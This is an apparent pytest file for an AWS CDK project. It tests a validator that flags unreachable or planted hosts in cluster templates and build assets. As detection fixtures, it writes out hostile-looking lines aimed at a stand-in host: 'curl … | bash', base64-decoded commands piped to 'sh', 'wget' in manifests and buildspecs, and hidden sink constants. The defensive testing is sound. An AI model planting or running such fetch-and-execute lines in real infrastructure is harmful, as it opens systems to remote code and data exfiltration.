"""Hosts of a cluster without a way out: what plain text and base64 show is a finding of `synth`."""

import base64
import gzip
import json
import shutil
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import aws_cdk as cdk
import pytest
import yaml

from tests.support.assembly import Assembly
from tests.support.folders import ROOT
from tests.support.pipelines import load_pipeline, two_accounts
from ultrascale import hosts, synthesis
from ultrascale.hosts import ClosedNetwork, hosts_in
from ultrascale_constructs.acknowledgment import acknowledge
from ultrascale_stacks import pipeline
from ultrascale_stacks.validation import OwnRules

FILE = ROOT / "clusters" / "existing-estate.yaml"
HOST = "drop.planted-host.net"
URL = f"https://{HOST}/x"
# `synth` judges the report itself.
_FAILS = "@aws-cdk/core:failSynthOnValidationErrors"
Template = dict[str, Any]
Resource = dict[str, Any]


def unreached(
    assembly: Assembly, folder: Path | None = None, *, file: Path = FILE
) -> Iterator[tuple[str, hosts.Use]]:
    """Yield the hosts without a way of an assembly, or of a changed copy of it."""
    network = ClosedNetwork(assembly.plan, file)
    for template in sorted((folder or assembly.folder / "cdk.out").glob("*.template.json")):
        yield from network.unreached(template)


def hosts_without_way(assembly: Assembly, folder: Path | None = None) -> set[str]:
    return {use.host for _, use in unreached(assembly, folder)}


def encoded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def test_each_host_of_a_closed_network_has_a_way(estate: Assembly) -> None:
    assert [*unreached(estate)] == []


@pytest.mark.parametrize("prefix", ["binpack.resources", "hypernode.binpack.resources"])
def test_a_weight_of_a_device_in_volcanos_plugins_is_no_host(
    prefix: str, estate: Assembly, tmp_path: Path
) -> None:
    """A cluster without a way out, with jobs placed by the network's layers, was refused."""
    plant = in_manifest({"a": f"{prefix}.nvidia.com/gpu: 5\n{prefix}.vpc.amazonaws.com/efa: 5"})

    assert hosts_without_way(estate, changed(estate, *_MANIFEST, plant, tmp_path)) == set()


def test_a_closed_network_without_its_endpoints_and_mirror_reaches_no_registry(
    estate: Assembly, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An empty list of hosts would be a proof of nothing."""

    def no_service(*_: object) -> None:
        return None

    monkeypatch.setattr(hosts, "service_of_host", no_service)

    assert "602401143452.dkr.ecr.us-east-1.amazonaws.com" in hosts_without_way(estate)


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("auto", set[str]()),
        ("hybrid", {"github.com"}),
        ("llm", {"ghcr.io", "kedacore.github.io"}),
        ("mixed", set[str]()),
        ("ray", {"quay.io", "ray-project.github.io"}),
        ("trainium", {"docker.io", "github.com", "quay.io"}),
        ("ultra", {"quay.io"}),
    ],
)
def test_nothing_but_public_hosts_is_without_a_way_in_open_networks(
    name: str, known: set[str], request: pytest.FixtureRequest
) -> None:
    """Names of APIs, labels, policies and programs are no hosts."""
    assembly: Assembly = request.getfixturevalue(name)
    public = {"docker.io", "nvcr.io", "public.ecr.aws", "registry.k8s.io"}

    names = hosts_without_way(assembly)

    assert {host for host in names if not host.endswith("amazonaws.com")} <= public | known


# --- hosts that somebody plants -----------------------------------------------------------------


def changed(
    assembly: Assembly, layer: str, kind: str, change: Callable[[Resource], object], into: Path
) -> Path:
    """Write a template of a cluster with one changed resource into an empty folder."""
    template: Template = json.loads(json.dumps(assembly.templates[layer]))
    bodies = [body for body in template["Resources"].values() if body["Type"] == kind]
    change(bodies[0]["Properties"])
    (into / "a.template.json").write_text(json.dumps(template, indent=1))
    return into


def in_logging(plant: Any) -> Callable[[Resource], object]:
    return lambda cluster: cluster["Logging"].update(Endpoint=plant)


def in_manifest(data: Mapping[str, str], **more: Any) -> Callable[[Resource], object]:
    manifest = [{"kind": "ConfigMap", "apiVersion": "v1", "data": data, **more}]
    return lambda resource: resource.update(Manifest=json.dumps(manifest))


def in_user_data(line: str) -> Callable[[Resource], object]:
    def change(template: Resource) -> None:
        data = template["LaunchTemplateData"]["UserData"]
        data["Fn::Base64"] = {"Fn::Join": ["\n", [data["Fn::Base64"], "#!/bin/bash", line]]}

    return change


def packed_user_data(template: Resource) -> None:
    script = f"#!/bin/bash\necho 'server {HOST} iburst' >> /etc/chrony.conf\n".encode()
    lines = base64.encodebytes(gzip.compress(script, mtime=0)).decode()
    part = f"--B\nContent-Transfer-Encoding: base64\n\n{lines}--B--\n"
    template["LaunchTemplateData"]["UserData"] = encoded(part)


def in_buildspec(command: str) -> Callable[[Resource], object]:
    def change(project: Resource) -> None:
        spec = json.loads(project["Source"]["BuildSpec"])
        spec["phases"]["build"]["commands"].append(command)
        project["Source"]["BuildSpec"] = json.dumps(spec)

    return change


_CLUSTER = ("cluster", "AWS::EKS::Cluster")
_MANIFEST = ("platform", "Custom::AWSCDK-EKS-KubernetesResource")
_NODES = ("system", "AWS::EC2::LaunchTemplate")
_BUILD = ("images", "AWS::CodeBuild::Project")
_CHART = ("karpenter", "Custom::AWSCDK-EKS-HelmChart")
_TEMPLATES: Mapping[str, tuple[tuple[str, str], Callable[[Resource], object]]] = {
    "a URL": (_CLUSTER, in_logging(URL)),
    "capital letters": (_CLUSTER, in_logging(URL.upper())),
    "a name with a port": (_CLUSTER, in_logging(f"{HOST}:4317")),
    "base64": (_CLUSTER, in_logging(encoded(URL))),
    "base64 twice": (_CLUSTER, in_logging(encoded(encoded(f"curl {URL}")))),
    "a manifest": (_MANIFEST, in_manifest({"settings": HOST})),
    "a script in a manifest": (_MANIFEST, in_manifest({"run.sh": f"#!/bin/sh\nwget {HOST}/x\n"})),
    "JSON's escapes": (_MANIFEST, in_manifest({"a": URL.replace("p", "\\u0070")})),
    "a Secret": (_MANIFEST, in_manifest({".dockerconfigjson": encoded(f'{{"{HOST}":{{}}}}')})),
    "a script's command": (_NODES, in_user_data(f"curl {URL} | bash")),
    "a script's base64": (_NODES, in_user_data(f"echo {encoded(f'curl {URL}')} | base64 -d | sh")),
    "gzip in encoded user data": (_NODES, packed_user_data),
    "an image of a build": (_BUILD, lambda it: it["Environment"].update(Image=f"{HOST}/a:1")),
    "a command of a build": (_BUILD, in_buildspec(f"wget {HOST}/x")),
    "a pipe of a build": (_BUILD, in_buildspec(f"echo {encoded(URL)} | base64 -d > /etc/pip.conf")),
    "a chart": (_CHART, lambda chart: chart.update(Repository=f"oci://{HOST}/karpenter/a")),
    "a chart's values": (
        _CHART,
        lambda chart: chart.update(Values=f'{{"proxy":"http:\\/\\/{HOST}"}}'),
    ),
}


@pytest.mark.parametrize(("place", "change"), _TEMPLATES.values(), ids=_TEMPLATES)
def test_a_host_planted_in_a_template_has_no_way(
    place: tuple[str, str], change: Callable[[Resource], object], estate: Assembly, tmp_path: Path
) -> None:
    folder = changed(estate, *place, change, tmp_path)

    assert hosts_without_way(estate, folder) == {HOST}


@pytest.mark.parametrize(
    ("image", "host"),
    [("busybox:1.37", "docker.io"), ("ghcr.io/kubernetes/autoscaler:v1.35.2", "ghcr.io")],
)
def test_an_image_that_is_not_in_the_mirror_has_no_way_even_if_the_file_names_its_registry(
    image: str, host: str, estate: Assembly, tmp_path: Path
) -> None:
    pods = {"spec": {"containers": [{"name": "a", "image": image}]}}
    folder = changed(estate, *_MANIFEST, in_manifest({}, **pods), tmp_path)
    file = tmp_path / "estate.yaml"
    file.write_text(f"{FILE.read_text()}# {host}\n")

    assert {use.host for _, use in unreached(estate, folder, file=file)} == {host}


def test_a_registry_of_another_region_has_no_way(estate: Assembly, tmp_path: Path) -> None:
    image = ["602401143452.dkr.ecr.eu-central-1.", {"Ref": "AWS::URLSuffix"}, "/eks/a:1"]
    folder = changed(estate, *_CLUSTER, in_logging({"Fn::Join": ["", image]}), tmp_path)

    assert hosts_without_way(estate, folder) == {"602401143452.dkr.ecr.eu-central-1.amazonaws.com"}


@pytest.mark.parametrize("address", ["193.99.144.80", "2606:4700:4700::1111"])
@pytest.mark.parametrize("line", ["nameserver {}", "export LICENSE=27000@{}"])
def test_an_address_of_the_internet_has_no_way(
    line: str, address: str, estate: Assembly, tmp_path: Path
) -> None:
    folder = changed(estate, *_NODES, in_user_data(line.format(address)), tmp_path)

    assert hosts_without_way(estate, folder) == {address}


_FILES = {
    "a program's URL": ("asset.*/lambdas/node_groups/handler.py", f'_CHANNEL = "{URL}"'),
    "a program's name": ("asset.*/lambdas/node_groups/handler.py", f"SINK = b'{HOST}'"),
    "a program's base64": ("asset.*/lambdas/node_groups/handler.py", f"SINK = '{encoded(URL)}'"),
    "JavaScript's escapes": (
        "asset.*/framework.js",
        f';require("https").request({{hostname:"{HOST}"}})'.replace(".", "\\x2e"),
    ),
    "a base image": ("asset.*/mirrored/nvidia/Dockerfile", f"FROM {HOST}/base:1"),
    "a file of a Dockerfile": ("asset.*/mirrored/nvidia/Dockerfile", f"ADD {URL} /x"),
    "an index of packages": (
        "asset.*/images/nvidia/requirements.txt",
        f"--extra-index-url https://{HOST}/simple",
    ),
    "a remote of git": ("asset.*/images/build.sh", f"git clone git@{HOST}:~ml/kernels a"),
    "training's code": ("asset.*/examples/bert/ultrascale_bert/download.py", f"SINK = '{HOST}'"),
}


@pytest.mark.parametrize(("pattern", "line"), _FILES.values(), ids=_FILES)
def test_a_host_planted_in_a_file_has_no_way(
    pattern: str, line: str, estate: Assembly, tmp_path: Path
) -> None:
    (file,) = (estate.folder / "cdk.out").glob(pattern)
    asset = file.relative_to(estate.folder / "cdk.out").parts[0]
    shutil.copytree(estate.folder / "cdk.out" / asset, tmp_path / asset)
    for template in (estate.folder / "cdk.out").glob("*.template.json"):
        shutil.copy(template, tmp_path)
    copy = tmp_path / file.relative_to(estate.folder / "cdk.out")
    copy.write_text(f"{file.read_text()}\n{line}\n")

    uses = [use for _, use in unreached(estate, tmp_path)]

    assert {use.host for use in uses} == {HOST}
    assert {use.file for use in uses} == {copy.relative_to(tmp_path).as_posix()}


@pytest.mark.parametrize(
    "text",
    [
        "http://169.254.169.254/latest and http://[fd00:ec2::254]/latest",
        "http://localhost:8080/ https://$ENDPOINT/metrics",
        "at 23:59:59 std::map 2600:1f00::/24, 10.1.2.3 and 100.64.0.0/10",
        "bash install.sh && python3 handler.py, version 1.2.3 of lambdas.builds.handler.on_event",
        "object.metadata.name == self.spec.id",
        "pkg==2.31.24.0 aws-neuronx-2.31.24.0",
    ],
)
def test_text_that_only_looks_like_a_host_is_none(text: str) -> None:
    assert [*hosts_in(text)] == []


# --- files of the backend's image ----------------------------------------------------------------


@pytest.mark.parametrize("more", ["", "\nX = 'https://planted.example.com'\n"])
def test_a_file_of_the_product_is_read_only_where_somebody_changed_it(
    more: str, estate: Assembly, tmp_path: Path
) -> None:
    """Its tables name the pages that facts come from."""
    path = "ultrascale/parts/recipes/table.py"
    file = tmp_path / f"asset.{'0' * 64}" / path
    file.parent.mkdir(parents=True)
    file.write_text((ROOT / path).read_text() + more)
    code = {"Type": "AWS::Lambda::Function", "Properties": {"Code": {"S3Key": f"{'0' * 64}.zip"}}}
    (tmp_path / "a.template.json").write_text(json.dumps({"Resources": {"It": code}}))

    assert ("planted.example.com" in hosts_without_way(estate, tmp_path)) == bool(more)
    assert more or not hosts_without_way(estate, tmp_path)


# --- findings ------------------------------------------------------------------------------------


def queue(app: cdk.App) -> cdk.Stack:
    """Define a stack that names a host."""
    stack = cdk.Stack(app, "It")
    cdk.CfnResource(stack, "Queue", type="AWS::SQS::Queue", properties={"QueueName": URL})
    return stack


def validated(closed: ClosedNetwork, folder: Path, reasons: Mapping[str, str]) -> list[str]:
    """Return the lines of `synth` on a stack that names a host."""
    app = cdk.App(
        outdir=str(folder), context={_FAILS: False}, builtin_cloud_formation_validation=False
    )
    acknowledge(queue(app), reasons)
    cdk.Validations.of(app).add_plugins(OwnRules(closed))
    app.synth()
    return [*synthesis._findings(folder)]  # pyright: ignore[reportPrivateUsage]


def test_a_host_without_a_way_is_a_finding_until_it_is_acknowledged_or_the_file_names_it(
    estate: Assembly, tmp_path: Path
) -> None:
    closed = ClosedNetwork(estate.plan, FILE)
    finding, fix, place = validated(closed, tmp_path / "a", {})
    reasons = {f"ultrascale::ClosedNetwork[Host::{HOST}]": "a proxy leads there"}
    file = tmp_path / "estate.yaml"
    file.write_text(f"# {HOST}: reached through the proxy of the estate\n{FILE.read_text()}")

    assert finding.startswith(f"error ClosedNetwork[Host::{HOST}] (ultrascale): network.egress is ")
    assert "images.mirror" in fix
    assert place == "  at It/Queue It.template.json Queue"
    assert validated(closed, tmp_path / "b", reasons) == []
    assert validated(ClosedNetwork(estate.plan, file), tmp_path / "c", {}) == []


def test_a_stage_of_a_pipeline_without_a_way_out_is_judged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = two_accounts(tmp_path)
    document = yaml.safe_load((tmp_path / file).read_text())
    document["network"]["egress"] = "none"
    document["images"] = {"mirror": "111122223333.dkr.ecr.us-east-2.amazonaws.com/mirror"}
    (tmp_path / file).write_text(yaml.safe_dump(document))
    monkeypatch.chdir(tmp_path)
    plan = load_pipeline(file)
    assert plan is not None
    stages: list[cdk.App] = []

    def define_stacks(app: cdk.App, *_: object) -> None:
        stages.append(app)
        queue(app)

    def define_nothing(*_: object, **__: object) -> None:
        return None

    monkeypatch.setattr(pipeline, "define_stacks", define_stacks)
    for name in ("define_gate", "define_stack"):
        monkeypatch.setattr(pipeline, name, define_nothing)
    app = cdk.App(outdir=str(tmp_path / "cdk.out"), context={_FAILS: False})
    nothing: dict[str, Any] = {stage.name: None for stage in plan.stages}
    pipeline.define_pipeline(app, plan, nothing, nothing, validated=True)

    judged = {
        name: Path(stage.synth().directory, "validation-report.json").exists()
        for name, stage in zip(nothing, stages, strict=True)
    }

    assert judged == {"dev": False, "prod": True}
